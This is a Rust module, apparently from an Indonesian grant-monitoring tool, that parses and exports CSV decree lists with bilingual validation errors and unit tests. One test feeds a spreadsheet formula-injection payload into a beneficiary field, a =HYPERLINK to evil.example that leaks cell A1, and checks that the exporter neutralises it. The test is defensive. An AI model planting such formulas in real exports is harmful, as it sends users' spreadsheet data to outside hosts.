//! The list of a decree (SK): one CSV row per case, read by header name,
//! every bad row reported with its line, column and reason.
//!
//! Columns (any order; Indonesian names accepted too):
//! `case_id` (`kasus`), `change` (`perubahan`: approve/setujui, amount/ubah,
//! remove/hapus; default approve), `amount` (`jumlah`, e.g. `Rp 50.000.000`;
//! required unless removing), `tranches` (`tahap`, percent per tranche, e.g.
//! `40,30,30`; optional: the program's own schedule when empty). The
//! columns `beneficiary` (`penerima`) and `region` (`wilayah`), which the
//! list Pantau hands out as a start carries for people to read, are ignored.
//! The file is read as every CSV Pantau reads ([`crate::sheet`]): `;` or
//! `,`, UTF-8 or Windows-1252, cells cleaned.

use std::fmt;

use pantau_domain::{Label, Rupiah};
use serde::Serialize;

use crate::sheet::{Sheet, Writer};

/// What a decree does to one case.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum Change {
    /// Approve at an amount (an original decree, or a case an amendment adds).
    Approve,
    /// Change an approved amount.
    Amount,
    /// Withdraw the approval.
    Remove,
}

impl Change {
    pub fn as_str(self) -> &'static str {
        match self {
            Change::Approve => "approve",
            Change::Amount => "amount",
            Change::Remove => "remove",
        }
    }

    pub fn parse(text: &str) -> Result<Change, Label> {
        match text.trim().to_lowercase().as_str() {
            "" | "approve" | "setujui" => Ok(Change::Approve),
            "amount" | "ubah" => Ok(Change::Amount),
            "remove" | "hapus" => Ok(Change::Remove),
            other => Err(Label::new(
                format!("`{other}` bukan setujui, ubah atau hapus"),
                format!("`{other}` is not approve, amount or remove"),
            )),
        }
    }
}

/// The share of the approved amount paid in each tranche, in percent:
/// at least one tranche, each 1 to 100, adding up to 100.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Schedule(Vec<u8>);

/// Tranches a schedule may have.
pub const MAX_TRANCHES: usize = 12;

impl Schedule {
    /// `40,30,30`, also with `/`, `;`, spaces or `%` signs.
    pub fn parse(text: &str) -> Result<Schedule, Label> {
        let parts: Vec<&str> = text
            .split([',', '/', ';', ' '])
            .map(|p| p.trim().trim_end_matches('%').trim())
            .filter(|p| !p.is_empty())
            .collect();
        if parts.is_empty() {
            return Err(Label::new(
                "kosong: tulis persen tiap tahap, mis. 40,30,30",
                "empty: write each tranche's percentage, e.g. 40,30,30",
            ));
        }
        if parts.len() > MAX_TRANCHES {
            return Err(Label::new(
                format!("{} tahap, paling banyak {MAX_TRANCHES}", parts.len()),
                format!("{} tranches, at most {MAX_TRANCHES}", parts.len()),
            ));
        }
        let mut percents = Vec::with_capacity(parts.len());
        for p in parts {
            match p.parse::<u8>() {
                Ok(v) if (1..=100).contains(&v) => percents.push(v),
                _ => {
                    return Err(Label::new(
                        format!("`{p}` bukan persen 1 sampai 100"),
                        format!("`{p}` is not a percentage from 1 to 100"),
                    ));
                }
            }
        }
        let sum: u32 = percents.iter().map(|p| u32::from(*p)).sum();
        if sum != 100 {
            return Err(Label::new(
                format!("jumlahnya {sum} %, bukan 100 %"),
                format!("the tranches add up to {sum}%, not 100%"),
            ));
        }
        Ok(Schedule(percents))
    }

    /// A program's schedule, as its definition gives it (already checked there).
    pub fn of(percents: &[u8]) -> Schedule {
        Schedule(percents.to_vec())
    }

    pub fn percents(&self) -> &[u8] {
        &self.0
    }
}

impl fmt::Display for Schedule {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let parts: Vec<String> = self.0.iter().map(u8::to_string).collect();
        f.write_str(&parts.join(","))
    }
}

/// One case a decree lists.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct DecreeLine {
    pub case_id: String,
    pub change: Change,
    pub amount: Option<Rupiah>,
    /// The tranche schedule the decree sets; none means the program's.
    pub tranches: Option<Schedule>,
}

/// One bad row: its line in the file (the header is line 1), the column and why.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct LineError {
    pub line: u64,
    pub column: String,
    /// Why, in Indonesian and English.
    pub reason: Label,
}

impl fmt::Display for LineError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "line {}, column {}: {}",
            self.line,
            self.column,
            self.reason.both()
        )
    }
}

const COLUMNS: [(&str, &str); 6] = [
    ("case_id", "kasus"),
    ("change", "perubahan"),
    ("amount", "jumlah"),
    ("tranches", "tahap"),
    // For people to read; not read.
    ("beneficiary", "penerima"),
    ("region", "wilayah"),
];

/// Reads a decree's list. Every row is read; the lines come back only when
/// no row is bad, so a decree is never half-read: the errors name every bad
/// row at once, to be mended before the decree is applied.
pub fn read<R: std::io::Read>(input: R) -> Result<Vec<DecreeLine>, Vec<LineError>> {
    let mut sheet = Sheet::open(input).map_err(|e| {
        let e = e.to_string();
        vec![error(1, "-", Label::new(e.clone(), e))]
    })?;
    let mut index = [None; COLUMNS.len()];
    let mut errors = Vec::new();
    for (i, name) in sheet.names().iter().enumerate() {
        let name = name.to_lowercase();
        match COLUMNS
            .iter()
            .position(|(en, id)| *en == name || *id == name)
        {
            Some(p) if index[p].is_none() => index[p] = Some(i),
            Some(_) => errors.push(error(
                1,
                &name,
                Label::new("kolom ganda", "duplicate column"),
            )),
            None => errors.push(error(
                1,
                &name,
                Label::new(
                    "kolom tidak dikenal (yang dikenal: case_id, change, amount, tranches, \
                     beneficiary, region)",
                    "unknown column (known: case_id, change, amount, tranches, beneficiary, \
                     region)",
                ),
            )),
        }
    }
    if index[0].is_none() {
        errors.push(error(
            1,
            "case_id",
            Label::new("kolom wajib tidak ada", "required column missing"),
        ));
    }
    if !errors.is_empty() {
        return Err(errors);
    }
    let mut lines = Vec::new();
    loop {
        let row = match sheet.next_row() {
            Ok(Some(row)) => row,
            Ok(None) => break,
            Err(e) => {
                errors.push(error(0, "-", Label::new(e.to_string(), e.to_string())));
                break;
            }
        };
        if let Some(e) = row.unreadable {
            errors.push(error(row.line, &e.column, e.reason));
            continue;
        }
        let get = |c: usize| index[c].and_then(|i| row.cells.get(i)).map_or("", |c| c);
        match parse_row(row.line, get(0), get(1), get(2), get(3)) {
            Ok(l) => lines.push(l),
            Err(mut e) => errors.append(&mut e),
        }
    }
    if errors.is_empty() {
        Ok(lines)
    } else {
        Err(errors)
    }
}

/// A case proposed for a decree, as the list Pantau hands out to start one
/// from: every verified case of a program, to be cut down to the ones the
/// decree approves and their amounts set.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Proposed {
    pub case_id: String,
    /// The amount requested: the decree may approve less.
    pub amount: Option<Rupiah>,
    pub tranches: Option<Schedule>,
    pub beneficiary: String,
    pub region: String,
}

/// `rows` as a decree's list that [`read`] takes back, for people to open
/// in a spreadsheet (a BOM first; every cell made safe by [`Writer`]).
pub fn start_list(rows: &[Proposed]) -> Result<Vec<u8>, String> {
    let mut w = Writer::for_people(Vec::new()).map_err(|e| e.to_string())?;
    let header = [
        "case_id",
        "change",
        "amount",
        "tranches",
        "beneficiary",
        "region",
    ];
    w.row(header).map_err(|e| e.to_string())?;
    for r in rows {
        w.row([
            r.case_id.as_str(),
            Change::Approve.as_str(),
            &r.amount.map(|a| a.to_string()).unwrap_or_default(),
            &r.tranches
                .as_ref()
                .map(Schedule::to_string)
                .unwrap_or_default(),
            &r.beneficiary,
            &r.region,
        ])
        .map_err(|e| e.to_string())?;
    }
    w.into_inner().map_err(|e| e.to_string())
}

fn parse_row(
    line: u64,
    case_id: &str,
    change: &str,
    amount: &str,
    tranches: &str,
) -> Result<DecreeLine, Vec<LineError>> {
    let mut errors = Vec::new();
    if case_id.is_empty() {
        errors.push(error(
            line,
            "case_id",
            Label::new("wajib diisi", "required"),
        ));
    }
    let change = Change::parse(change).map_err(|e| errors.push(error(line, "change", e)));
    let amount = match amount {
        "" => None,
        a => Rupiah::parse(a)
            .map_err(|e| errors.push(error(line, "amount", e.label())))
            .ok(),
    };
    if amount.is_none()
        && change.is_ok_and(|c| c != Change::Remove)
        && !errors_in(&errors, "amount")
    {
        errors.push(error(
            line,
            "amount",
            Label::new(
                "wajib diisi untuk menyetujui atau mengubah jumlah",
                "required to approve or change an amount",
            ),
        ));
    }
    let tranches = match tranches {
        "" => None,
        t => Schedule::parse(t)
            .map_err(|e| errors.push(error(line, "tranches", e)))
            .ok(),
    };
    match change {
        Ok(change) if errors.is_empty() => Ok(DecreeLine {
            case_id: case_id.to_string(),
            change,
            amount,
            tranches,
        }),
        _ => Err(errors),
    }
}

fn errors_in(errors: &[LineError], column: &str) -> bool {
    errors.iter().any(|e| e.column == column)
}

fn error(line: u64, column: &str, reason: Label) -> LineError {
    LineError {
        line,
        column: column.to_string(),
        reason,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_list_by_header_name_in_any_order() {
        let lines = read(
            "jumlah,kasus,tahap\nRp 50.000.000,K-1,40/30/30\n\"Rp 25.000.000\",K-2,\n".as_bytes(),
        )
        .unwrap();
        assert_eq!(lines.len(), 2);
        assert_eq!(lines[0].case_id, "K-1");
        assert_eq!(lines[0].change, Change::Approve);
        assert_eq!(lines[0].amount, Some(Rupiah::new(50_000_000).unwrap()));
        assert_eq!(lines[0].tranches.as_ref().unwrap().to_string(), "40,30,30");
        assert_eq!(lines[1].tranches, None);
    }

    #[test]
    fn every_bad_row_and_column_is_named() {
        let errs = read(
            "case_id,change,amount,tranches\n\
             K-1,approve,Rp 10.000.000,100\n\
             ,setujui,Rp 1.000,\"50,40\"\n\
             K-3,naikkan,,\n\
             K-4,ubah,Rp 10.000.000,50;60\n\
             K-5,hapus,,\n"
                .as_bytes(),
        )
        .unwrap_err();
        let got: Vec<(u64, &str)> = errs.iter().map(|e| (e.line, e.column.as_str())).collect();
        assert_eq!(
            got,
            [
                (3, "case_id"),
                (3, "tranches"),
                (4, "change"),
                (5, "tranches")
            ],
            "{errs:?}"
        );
        assert!(errs[1].reason.id.contains("90"), "{errs:?}");
        assert!(errs[3].reason.id.contains("110"), "{errs:?}");
    }

    #[test]
    fn an_amount_is_required_unless_removing() {
        let errs = read("case_id,change,amount\nK-1,approve,\nK-2,remove,\nK-3,ubah,\n".as_bytes())
            .unwrap_err();
        assert_eq!(
            errs.iter()
                .map(|e| (e.line, e.column.as_str()))
                .collect::<Vec<_>>(),
            [(2, "amount"), (4, "amount")],
            "{errs:?}"
        );
    }

    #[test]
    fn the_start_list_reads_back() {
        let rows = [Proposed {
            case_id: "K-1".into(),
            amount: Some(Rupiah::new(150_000_000).unwrap()),
            tranches: Some(Schedule::parse("40,30,30").unwrap()),
            beneficiary: "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"klik\")".into(),
            region: "Kabupaten Lampung Selatan".into(),
        }];
        let list = start_list(&rows).unwrap();
        assert!(list.starts_with("\u{feff}case_id,".as_bytes()));
        let text = String::from_utf8(list.clone()).unwrap();
        assert!(
            text.contains(",\"'=HYPERLINK(\"\"http://evil.example/"),
            "{text}"
        );
        let lines = read(list.as_slice()).unwrap();
        assert_eq!(
            lines,
            [DecreeLine {
                case_id: "K-1".into(),
                change: Change::Approve,
                amount: rows[0].amount,
                tranches: rows[0].tranches.clone(),
            }]
        );
    }

    #[test]
    fn an_excel_file_semicolons_windows_1252_and_a_formula_in_a_name() {
        let lines = read(
            &b"kasus;penerima;jumlah;tahap;;\r\nK-1;'=HYPERLINK(\"x\");Rp 50.000.000;40,30,30;;\r\n\
               K-2;Koperasi Ren\xe9;Rp 1.000;;;\r\n;;;;;\r\n"[..],
        )
        .unwrap();
        assert_eq!(
            lines
                .iter()
                .map(|l| (l.case_id.as_str(), l.amount.map(Rupiah::get)))
                .collect::<Vec<_>>(),
            [("K-1", Some(50_000_000)), ("K-2", Some(1_000))]
        );
        assert_eq!(lines[0].tranches.as_ref().unwrap().percents(), [40, 30, 30]);
        let errs = read(&b"kasus;jumlah\nK-1;Rp 5;x\nK-2\n"[..]).unwrap_err();
        assert_eq!(
            errs.iter()
                .map(|e| (e.line, e.column.as_str()))
                .collect::<Vec<_>>(),
            [(2, "#3"), (3, "jumlah")],
            "{errs:?}"
        );
        let errs = read(&b"PK\x03\x04\x14\x00"[..]).unwrap_err();
        assert_eq!((errs.len(), errs[0].line), (1, 1));
        assert!(errs[0].reason.id.contains("CSV UTF-8"), "{errs:?}");
    }

    #[test]
    fn columns_for_people_are_ignored() {
        let lines =
            read("kasus,penerima,wilayah,jumlah\nK-1,KUD Maju,18.71,Rp 5\n".as_bytes()).unwrap();
        assert_eq!(lines[0].amount, Some(Rupiah::new(5).unwrap()));
    }

    #[test]
    fn unknown_and_missing_columns() {
        let errs = read("kasus,warna\nK-1,merah\n".as_bytes()).unwrap_err();
        assert_eq!(errs.len(), 1);
        assert_eq!((errs[0].line, errs[0].column.as_str()), (1, "warna"));
        let errs = read("amount\nRp 1\n".as_bytes()).unwrap_err();
        assert_eq!(errs[0].column, "case_id");
    }

    #[test]
    fn schedules() {
        assert_eq!(Schedule::parse("100").unwrap().percents(), [100]);
        assert_eq!(
            Schedule::parse("40%, 30%, 30%").unwrap().percents(),
            [40, 30, 30]
        );
        for bad in ["", "0,100", "101", "50,49", "x", &"1,".repeat(13)] {
            assert!(Schedule::parse(bad).is_err(), "{bad}");
        }
    }
}
